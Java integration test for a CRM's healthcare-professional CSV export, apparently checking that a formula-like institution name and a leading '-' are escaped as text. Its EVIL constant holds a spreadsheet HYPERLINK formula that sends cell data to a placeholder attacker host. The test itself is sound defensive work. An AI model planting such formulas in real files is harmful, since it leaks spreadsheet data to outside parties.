package org.openpharma.crm.hcp.web;

import java.nio.charset.StandardCharsets;

import org.junit.jupiter.api.Test;
import org.openpharma.crm.WebIntegrationTest;
import org.openpharma.crm.WebTestBase;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.web.servlet.MockMvc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/** The HCP export on the whole application: what a spreadsheet opening the file would run. */
@WebIntegrationTest
@AutoConfigureMockMvc
class HcpExportIntegrationTests extends WebTestBase {

	static final String EVIL = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")";

	@Autowired
	MockMvc mvc;

	@Autowired
	JdbcTemplate jdbc;

	@Test
	void anInstitutionNamedLikeAFormulaIsExportedAsText() throws Exception {
		String registry = "CSV-" + System.nanoTime() % 1_000_000_000L;
		Long hco = this.jdbc.queryForObject("INSERT INTO hco (name, name_kana, hco_type, prefecture_code)"
				+ " VALUES (?, 'エビル', 'CLINIC', 13) RETURNING id", Long.class, EVIL);
		this.jdbc.update("INSERT INTO hcp (registry_number, name_kanji, name_kana, name_romaji, primary_hco_id)"
				+ " VALUES (?, '数式 太郎', 'スウシキ タロウ', '-Taro', ?)", registry, hco);

		String csv = this.mvc.perform(get("/hcps/export.csv").param("q", registry).with(user("mr").roles("MR")))
			.andExpect(status().isOk())
			.andReturn()
			.getResponse()
			.getContentAsString(StandardCharsets.UTF_8);

		String row = csv.lines().filter(l -> l.contains(registry)).findFirst().orElseThrow();
		assertThat(row).contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"open\"\")\",")
			.contains(",'-Taro,")
			.doesNotContain(",\"=HYPERLINK");
		// The id stays a number in the first column.
		assertThat(row).matches("^\\d+,.*");
	}

}
